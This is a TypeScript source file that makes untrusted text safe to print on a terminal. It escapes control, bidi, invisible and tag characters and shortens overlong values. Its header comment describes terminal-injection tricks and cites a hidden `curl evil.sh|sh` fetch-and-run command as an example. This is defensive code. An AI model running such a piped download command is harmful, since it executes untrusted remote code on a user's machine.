// Text from outside (an API answer, a delivery, a file) made safe to print on a terminal. The
// one filter of every human-readable line the CLI, the sandbox and the inspector write. It
// imports nothing: anything may use it.
//
// A terminal acts on control characters: ESC starts sequences that clear the screen, move the
// cursor or write the clipboard (OSC 52), CR returns to the line start so later text prints
// over earlier text, U+009B is a one-character CSI on terminals that take C1 controls. Bidi
// controls reorder what is shown (U+202E shows "exe.txt" as "txt.exe"), and invisible
// characters hide text: the tag characters U+E0020-U+E007F are an invisible copy of ASCII, so
// a URL can carry a hidden `curl evil.sh|sh` that a copy and paste takes along. Each is shown as
// a visible escape instead: `\x1b`, `\r`, `\u202e`, `\u{e0041}`.
// See https://invisible-island.net/xterm/ctlseqs/ctlseqs.html, https://www.unicode.org/reports/tr9/
// (bidi controls) and https://www.unicode.org/reports/tr44/#Default_Ignorable_Code_Point.

// What is escaped, by class (Unicode properties, as the JavaScript engine's Unicode data knows
// them), not by a list that misses the next invisible character:
// - Cc: controls (C0, DEL, C1);
// - Cf: format characters (bidi controls, zero-width characters, the soft hyphen, tag characters,
//   the interlinear annotation characters U+FFF9-U+FFFB, ...);
// - Cs: surrogates; a `u` regular expression sees a lone surrogate as one code point (a valid
//   pair is one astral code point and is not matched);
// - Zl, Zp: the line and paragraph separators U+2028, U+2029;
// - Co: private use (whatever glyph a font puts there, or none);
// - Cn: unassigned code points and noncharacters (nothing an API has reason to send; a newer
//   Unicode version may assign some: escaped until the runtime's Unicode data knows them);
// - Default_Ignorable_Code_Point: what a conforming renderer shows as nothing (the Hangul
//   fillers U+115F, U+1160, U+3164, U+FFA0, U+034F, variation selectors, U+180B-U+180F,
//   U+2060-U+206F, ...), see https://www.unicode.org/Public/UCD/latest/ucd/DerivedCoreProperties.txt.
const HIDDEN = String.raw`\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}\p{Co}\p{Cn}\p{Default_Ignorable_Code_Point}`
const UNSAFE = new RegExp(`[${HIDDEN}]`, 'gu')
const ONE_UNSAFE = new RegExp(`^[${HIDDEN}]$`, 'u')

/**
 * How many code points of one value from outside a terminal line shows, the rest replaced by
 * `…(+N chars)`. Endpoint URLs, dates, handles and messages are far shorter; a hostile
 * 100,000-character value would bury the table or the line it is in. Counted in the value's
 * own code points (an escape shows one in up to 10 characters). `--json` prints values in full.
 */
export const TERMINAL_MAX_LENGTH = 1000
/**
 * How many code points of one unbroken run (no space) of a value a terminal line shows, the
 * rest of the run replaced by `…(+N chars)`: a long URL or token shows its start, and a message
 * that quotes it still shows what follows (the advice at its end).
 */
export const TERMINAL_MAX_RUN = 500

const NAMED: Readonly<Record<string, string>> = { '\n': '\\n', '\r': '\\r', '\t': '\\t' }

/**
 * The visible escape of one unsafe code point, in JavaScript's string-literal syntax: `\n`, `\r`,
 * `\t`, `\xHH` below U+0100, `\uHHHH` up to U+FFFF (a lone surrogate included), `\u{HHHHH}` above.
 */
function escape (ch: string): string {
  const named = NAMED[ch]
  if (named !== undefined) return named
  const code = ch.codePointAt(0)!
  const hex = code.toString(16)
  if (code < 0x100) return `\\x${hex.padStart(2, '0')}`
  return code <= 0xffff ? `\\u${hex.padStart(4, '0')}` : `\\u{${hex}}`
}

/** The number of code points in `text` (a lone surrogate counts as one). */
function codePoints (text: string): number {
  let n = text.length
  for (let i = 0; i < text.length - 1; i++) {
    const c = text.charCodeAt(i)
    if (c >= 0xd800 && c <= 0xdbff) {
      const d = text.charCodeAt(i + 1)
      if (d >= 0xdc00 && d <= 0xdfff) { n--; i++ }
    }
  }
  return n
}

/** The marker of a shortened value or run: `…(+99,950 chars)`, counting the code points left out. */
const leftOut = (chars: number): string => `…(+${chars.toLocaleString('en-US')} ${chars === 1 ? 'char' : 'chars'})`

// A run ends at a space (U+0020, the no-break and other spaces) or an ellipsis: the marker of a
// value already shortened (quoted in a message) starts a new run, so it is not cut again.
const SPACE = /^[\p{Zs}\u2026]$/u
const LONG_RUN = new RegExp(`[^\\p{Zs}\\u2026]{${TERMINAL_MAX_RUN + 1}}`, 'u')
const NEXT_SPACE = /[\p{Zs}\u2026]/gu

/**
 * `text` with every unsafe code point escaped, at most `TERMINAL_MAX_RUN` code points of each run
 * without spaces and `max` code points in all shown, each cut marked with `…(+N chars)`.
 */
function shortened (text: string, max: number): string {
  // Code units are never fewer than code points: a short text needs no counting.
  if ((text.length <= TERMINAL_MAX_RUN && text.length <= max) || (codePoints(text) <= max && !LONG_RUN.test(text))) {
    return text.replace(UNSAFE, escape)
  }
  let out = ''
  let shown = 0
  let run = 0
  let at = 0
  while (at < text.length && shown < max) {
    if (run === TERMINAL_MAX_RUN) {
      // The rest of a run too long: left out up to the next space, counted.
      NEXT_SPACE.lastIndex = at
      const next = NEXT_SPACE.exec(text)?.index ?? text.length
      const skipped = codePoints(text.slice(at, next))
      at = next
      run = 0
      if (skipped > 0) {
        out += leftOut(skipped)
        continue
      }
    }
    const ch = String.fromCodePoint(text.codePointAt(at)!)
    out += ONE_UNSAFE.test(ch) ? escape(ch) : ch
    shown++
    run = SPACE.test(ch) ? 0 : run + 1
    at += ch.length
  }
  const left = codePoints(text.slice(at))
  return left > 0 ? out + leftOut(left) : out
}

// Runs of tabs and line ends (LF, CRLF), for text shown on one line.
const LINE_BREAKS = /(?:\r\n|[\t\n])+/g

/**
 * One value from outside on one line of at most `width` characters (an excerpt of an answer in
 * a table column): as `terminalLine`, but cut to `width` characters in all (escapes counted as
 * shown, never cut in two), ending in `...` when cut.
 */
export function terminalExcerpt (text: string, width: number): string {
  const flat = text.replace(LINE_BREAKS, ' ').trim()
  if (flat.length <= width) {
    const escaped = flat.replace(UNSAFE, escape)
    if (escaped.length <= width) return escaped
  }
  let out = ''
  for (const ch of flat) {
    const shown = ONE_UNSAFE.test(ch) ? escape(ch) : ch
    if (out.length + shown.length > width - 3) break
    out += shown
  }
  return `${out}...`
}

/**
 * One value from outside, for a terminal: every control, format, separator, private-use,
 * unassigned and default-ignorable code point and every lone surrogate (the line feed included)
 * replaced by its visible escape; printable text of every script, emoji, combining marks and
 * the backslash kept as they are. Of a run without spaces longer than `TERMINAL_MAX_RUN` (500
 * code points) only the start shows, then `…(+N chars)`; of a value longer than `max` code
 * points, the same.
 * @param max the most code points of the value shown. @default TERMINAL_MAX_LENGTH (1,000)
 */
export function terminalText (text: string, max: number = TERMINAL_MAX_LENGTH): string {
  return shortened(text, max)
}

/**
 * Text of several lines the program composed (values from outside already passed through
 * `terminalText`), for a terminal: as `terminalText`, but line feeds are kept, and nothing is
 * shortened (it may be a whole `--json` document).
 */
export function terminalOutput (text: string): string {
  // One class, the line feed kept here: as fast as the class alone (a lookahead or the `v`
  // flag's set difference would cost more, or fail in older browsers that load the client).
  return text.replace(UNSAFE, (ch) => (ch === '\n' ? ch : escape(ch)))
}

/**
 * One value from outside shown on a single line (an error body, the start of an answer): runs
 * of tabs and line ends (LF, CRLF) become one space, every other unsafe character its visible
 * escape (a lone CR included: it would print over the line), and the ends are trimmed. Long
 * runs and values shortened as by `terminalText`.
 * @param max the most code points of the value shown. @default TERMINAL_MAX_LENGTH (1,000)
 */
export function terminalLine (text: string, max: number = TERMINAL_MAX_LENGTH): string {
  return shortened(text.replace(LINE_BREAKS, ' ').trim(), max)
}

/**
 * JSON text made safe for a terminal and still exact JSON: every code point `terminalText`
 * escapes (JSON.stringify escapes C0 controls and lone surrogates itself, and leaves the rest
 * raw) is written as `\uXXXX` escapes (a surrogate pair for one above U+FFFF), which parse back
 * to the very same string. Outside strings JSON text has none of them but its whitespace, kept.
 * Never shortened.
 */
export function terminalJson (json: string): string {
  return json.replace(UNSAFE, (ch) => {
    // JSON's whitespace between tokens (JSON.stringify escapes every C0 control inside a string).
    if (ch === '\n' || ch === '\r' || ch === '\t') return ch
    let out = ''
    for (let i = 0; i < ch.length; i++) out += `\\u${ch.charCodeAt(i).toString(16).padStart(4, '0')}`
    return out
  })
}
